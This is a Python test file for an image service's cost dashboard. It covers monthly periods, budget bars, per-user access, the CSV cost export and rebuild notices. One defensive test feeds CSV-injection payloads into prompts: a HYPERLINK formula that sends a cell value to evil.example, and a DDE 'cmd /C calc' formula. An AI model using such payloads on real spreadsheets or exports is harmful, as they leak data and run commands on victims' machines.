"""The money views: periods, spend against budgets, the cost CSV, true cost beside list price."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal

import attrs
import pytest
from starlette.testclient import TestClient

from image_core.budgets import Budgets, Period
from image_core.contracts.samples import make_generation
from image_core.domain import CostBasis, CostEstimate, GenerationStatus
from image_core.ledger import RebuildProgress
from image_core.testing import InMemoryMetadataRepository
from image_server.dashboard import DashboardConfig
from image_server.dashboard.periods import CSV_COLUMNS
from tests.dashboard.conftest import PUBLIC_URL, log_in
from tests.dashboard.support import (
    ADMIN,
    FORMER,
    NOW,
    OTHER,
    USER,
    Seeded,
    dashboard_config,
    make_service,
    outer_app,
)
from tests.fakes.fake_google import FakeGoogle

NOVEMBER = Period.month_of(NOW.date())
OCTOBER = Period.month_of(NOW.date().replace(day=1) - timedelta(days=1))
BUDGETS = Budgets(
    user_monthly=CostEstimate(Decimal(1)),
    per_person_monthly={
        USER: CostEstimate(Decimal("3.5")),
        ADMIN: CostEstimate(Decimal("0.5")),
    },
    total_monthly=CostEstimate(Decimal(4)),
)


def usd(text: str) -> CostEstimate:
    """Dollars from text."""
    return CostEstimate(Decimal(text))


def _rows(html: str) -> list[tuple[str, str, str]]:
    found = re.findall(
        r'<td><a href="[^"]+">([^<]+(?:<wbr>[^<]*)?)</a></td>\s*<td class="num">(\d+)</td>\s*'
        r'<td class="num">([^<]+)',
        html,
    )
    return [(e.replace("<wbr>", ""), n, c) for e, n, c in found]


def _expected(seeded: Seeded, period: Period | None) -> list[tuple[str, str, str]]:
    report = seeded.metadata.usage(period=period)
    return [(r.email, str(r.image_count), r.cost.display()) for r in report.rows]


@pytest.fixture
def config(google: FakeGoogle) -> DashboardConfig:
    """Production-like config pointing at the fake IdP."""
    return dashboard_config(
        public_url=PUBLIC_URL,
        openid_configuration_url=google.discovery_url,
        issuer=google.issuer,
    )


@pytest.fixture
def budgeted() -> Seeded:
    """The seeded service with monthly budgets: bob near his, ada over hers, server over."""
    return make_service(budgets=BUDGETS)


@pytest.fixture
def as_person(
    budgeted: Seeded, config: DashboardConfig, google: FakeGoogle
) -> Iterator[dict[str, TestClient]]:
    """One signed-in client per person, over the budgeted service."""
    clients: dict[str, TestClient] = {}
    try:
        for email in (ADMIN, USER):
            client = TestClient(outer_app(budgeted, config), base_url=PUBLIC_URL)
            client.__enter__()
            clients[email] = client
            log_in(client, google, email)
        yield clients
    finally:
        for client in clients.values():
            client.__exit__(None, None, None)


def test_the_overview_shows_this_utc_month_by_default_and_says_so(
    as_person: dict[str, TestClient], budgeted: Seeded
) -> None:
    """No period: November 2026, midnight to midnight UTC, with its own totals."""
    html = as_person[ADMIN].get("/ui/").text
    assert "this month (November 2026)" in html
    assert "Months are UTC" in html
    assert _rows(html) == _expected(budgeted, NOVEMBER)
    assert _rows(html) != _expected(budgeted, None)
    assert 'aria-current="page">This month</a>' in html


@pytest.mark.parametrize(
    ("query", "period"),
    [("last", OCTOBER), ("2026-10", OCTOBER), ("2026-11", NOVEMBER), ("all", None)],
)
def test_each_period_shows_the_spend_of_its_utc_days(
    as_person: dict[str, TestClient], budgeted: Seeded, query: str, period: Period | None
) -> None:
    """Last month, a chosen month and all time each add exactly their records."""
    html = as_person[ADMIN].get("/ui/", params={"period": query}).text
    assert _rows(html) == _expected(budgeted, period)
    assert f'href="/ui/costs.csv?period={query}"' in html


def test_a_chosen_month_with_nothing_in_it_says_so(as_person: dict[str, TestClient]) -> None:
    """An empty month is a friendly empty state, not a blank table."""
    html = as_person[ADMIN].get("/ui/?period=2025-02").text
    assert "February 2025" in html
    assert "No images in this period." in html


@pytest.mark.parametrize(
    "bad",
    [
        "2026-13",
        "2026-00",
        "2026-1",
        "26-11",
        "0000-01",
        "9999-12",
        "week",
        "\uff12\uff10\uff12\uff16-11",
        "",
    ],
)
def test_a_period_that_is_not_one_is_the_404_page(
    as_person: dict[str, TestClient], bad: str
) -> None:
    """The overview and the export refuse it the same way, saying nothing else."""
    for path in ("/ui/", "/ui/costs.csv"):
        response = as_person[USER].get(path, params={"period": bad})
        assert response.status_code == 404, (path, bad)
        assert "Not found" in response.text


def test_each_person_is_shown_against_their_monthly_budget(
    as_person: dict[str, TestClient],
) -> None:
    """Bars with the figures in text: bob near his $3.50, ada over her $0.50, cleo within."""
    html = as_person[ADMIN].get("/ui/").text
    assert '<th scope="col">Monthly budget</th>' in html
    bob = re.search(r'<div class="budget near">.*?</div>', html, re.S)
    assert bob is not None
    assert 'max="3.5"' in bob.group(0)
    assert 'value="3.088"' in bob.group(0)
    assert "$3.088 of $3.50 (88%)" in bob.group(0)
    assert "near the budget: $0.412 left" in bob.group(0)
    assert f'aria-label="{USER}: $3.088 of $3.50"' in bob.group(0)
    over = re.findall(r'<div class="budget over">.*?</div>', html, re.S)
    ada = next(o for o in over if ADMIN in o)
    assert "$0.631 of $0.50 (126%)" in ada
    assert "over budget by $0.131" in ada
    cleo = re.search(rf'{re.escape(OTHER)}.*?<div class="budget within">.*?</div>', html, re.S)
    assert cleo is not None
    assert "$0.303 of $1.00 (30%)" in cleo.group(0)
    assert "within budget: $0.697 left" in cleo.group(0)


def test_admins_see_the_server_against_its_monthly_budget(
    as_person: dict[str, TestClient],
) -> None:
    """The whole server's November spend against IMG_BUDGET_TOTAL_MONTHLY; others never."""
    html = as_person[ADMIN].get("/ui/").text
    server = re.search(r'<section class="server-budget".*?</section>', html, re.S)
    assert server is not None
    assert "$4.089 of $4.00 (102%)" in server.group(0)
    assert "over budget by $0.089" in server.group(0)
    assert 'class="budget over"' in server.group(0)
    assert "server-budget" not in as_person[USER].get("/ui/").text


def test_a_user_sees_only_their_own_budget(as_person: dict[str, TestClient]) -> None:
    """Bob's bar, nobody else's row, figures or budget."""
    html = as_person[USER].get("/ui/").text
    assert "$3.088 of $3.50 (88%)" in html
    assert [e for e, _, _ in _rows(html)] == [USER]
    for other in (ADMIN, OTHER, FORMER, "$0.50", "$4.00"):
        assert other not in html


def test_a_budget_shows_before_anything_is_spent(
    budgeted: Seeded, config: DashboardConfig, google: FakeGoogle
) -> None:
    """A person with a budget and no images this month sees $0 of it."""
    with TestClient(outer_app(budgeted, config), base_url=PUBLIC_URL) as client:
        log_in(client, google, USER)
        html = client.get("/ui/?period=2025-02").text
    assert "$0.00 of $3.50 (0%)" in html
    assert "within budget: $3.50 left" in html


def test_budgets_are_monthly_so_all_time_shows_no_bars(
    as_person: dict[str, TestClient],
) -> None:
    """All time has no budget to compare with: no bar, no budget column, no server bar."""
    html = as_person[ADMIN].get("/ui/?period=all").text
    assert "<meter" not in html
    assert "Monthly budget" not in html
    assert "server-budget" not in html


def _csv(response_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response_text)))


def test_an_admins_csv_holds_everyones_settled_records_of_the_period(
    as_person: dict[str, TestClient], budgeted: Seeded
) -> None:
    """Columns as documented, one line per settled record, oldest first, an attachment."""
    response = as_person[ADMIN].get("/ui/costs.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="image-mcp-costs-2026-11.csv"'
    )
    assert "no-store" in response.headers["cache-control"]
    assert response.text.splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = _csv(response.text)
    expected = sorted(
        (g for gs in budgeted.by_owner.values() for g in gs if NOVEMBER.holds(g.created_at.date())),
        key=lambda g: (g.created_at, str(g.id)),
    )
    assert [r["file_name"] for r in rows] == [g.file_name for g in expected]
    first, generation = rows[0], expected[0]
    assert first == {
        "date_utc": generation.created_at.isoformat().replace("+00:00", "Z"),
        "email": generation.email,
        "model": generation.model_alias,
        "size": generation.image_size.value,
        "status": "done",
        "cost_usd": str(generation.cost.usd),
        "cost_basis": "list_price",
        "list_price_usd": str(generation.cost.usd),
        "prompt": generation.prompt,
        "file_name": generation.file_name,
    }
    total = sum((Decimal(r["cost_usd"]) for r in rows), Decimal(0))
    assert total == budgeted.metadata.usage(period=NOVEMBER).total_cost.usd
    assert {r["email"] for r in rows} == {USER, ADMIN, OTHER, FORMER}


def test_a_users_csv_holds_only_their_own_rows_whatever_the_period(
    as_person: dict[str, TestClient], budgeted: Seeded
) -> None:
    """Bob's export of any period has his records and nobody else's."""
    for period in ("month", "last", "all", "2026-10"):
        rows = _csv(as_person[USER].get("/ui/costs.csv", params={"period": period}).text)
        assert rows, period
        assert {r["email"] for r in rows} == {USER}
    everything = _csv(as_person[USER].get("/ui/costs.csv?period=all").text)
    assert len(everything) == len(budgeted.by_owner[USER])


def test_the_csv_needs_a_session(client: TestClient) -> None:
    """Signed out, the export is a redirect to the login page, never data."""
    response = client.get("/ui/costs.csv?period=all", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith("/ui/login")


@pytest.mark.parametrize(
    "prompt",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tleading tab",
        "\rcarriage return",
    ],
)
def test_a_prompt_a_spreadsheet_would_run_is_quoted_in_the_csv(
    google: FakeGoogle, config: DashboardConfig, prompt: str
) -> None:
    """CSV injection: a cell starting with = + - @ tab or CR starts with a quote instead."""
    seeded = make_service(user_images=1)
    seeded.metadata.add(make_generation(USER, at=NOW, prompt=prompt))
    with TestClient(outer_app(seeded, config), base_url=PUBLIC_URL) as client:
        log_in(client, google, USER)
        rows = _csv(client.get("/ui/costs.csv").text)
    cells = [r["prompt"] for r in rows]
    assert "'" + prompt in cells
    assert prompt not in cells


def test_the_true_cost_is_shown_with_the_list_price_beside_it(
    google: FakeGoogle, config: DashboardConfig
) -> None:
    """A cost from Gemini's token counts: the gallery, the table and the CSV all keep both."""
    seeded = make_service(user_images=1)
    measured = attrs.evolve(
        make_generation(USER, at=NOW, cost="0.0712"),
        estimate=usd("0.067"),
        cost_basis=CostBasis.USAGE,
    )
    seeded.metadata.add(measured)
    with TestClient(outer_app(seeded, config), base_url=PUBLIC_URL) as client:
        log_in(client, google, USER)
        gallery = client.get(f"/ui/gallery/{USER}").text
        overview = client.get("/ui/").text
        rows = _csv(client.get("/ui/costs.csv").text)
    card = next(c for c in gallery.split('<li class="card">') if measured.file_name in c)
    assert "$0.071" in card
    assert "list price $0.067" in card
    assert "From Gemini&#39;s token counts" in card
    first = seeded.by_owner[USER][0]
    assert f"list price {(first.cost + usd('0.067')).display()}" in overview
    line = next(r for r in rows if r["file_name"] == measured.file_name)
    assert (line["cost_usd"], line["cost_basis"], line["list_price_usd"]) == (
        "0.0712",
        "usage",
        "0.067",
    )


def test_a_failed_record_is_in_the_csv_without_a_file_name(
    google: FakeGoogle, config: DashboardConfig
) -> None:
    """A failure that may have been billed counts, and has no image to name."""
    seeded = make_service(user_images=0)
    failed = make_generation(USER, at=NOW, cost="0.24", status=GenerationStatus.FAILED)
    seeded.metadata.add(failed)
    with TestClient(outer_app(seeded, config), base_url=PUBLIC_URL) as client:
        log_in(client, google, USER)
        rows = _csv(client.get("/ui/costs.csv").text)
    assert [(r["status"], r["cost_usd"], r["file_name"]) for r in rows] == [("failed", "0.24", "")]


class Rebuilding(InMemoryMetadataRepository):
    """A repository whose index is still being rebuilt."""

    def rebuilding(self) -> RebuildProgress | None:
        """Always part-way."""
        return RebuildProgress(40_000, 100_000)


def test_while_the_index_rebuilds_pages_say_so_and_the_csv_waits(
    google: FakeGoogle, config: DashboardConfig
) -> None:
    """The overview answers with a notice that its figures are partial; the export is a 503."""
    seeded = make_service(metadata=Rebuilding())
    with TestClient(outer_app(seeded, config), base_url=PUBLIC_URL) as client:
        log_in(client, google, ADMIN)
        overview = client.get("/ui/")
        export = client.get("/ui/costs.csv")
    assert overview.status_code == 200
    assert "being rebuilt (40,000 of 100,000 records read)" in overview.text
    assert "incomplete" in overview.text
    assert export.status_code == 503
    assert export.headers["retry-after"] == "5"
    assert "Index rebuilding" in export.text
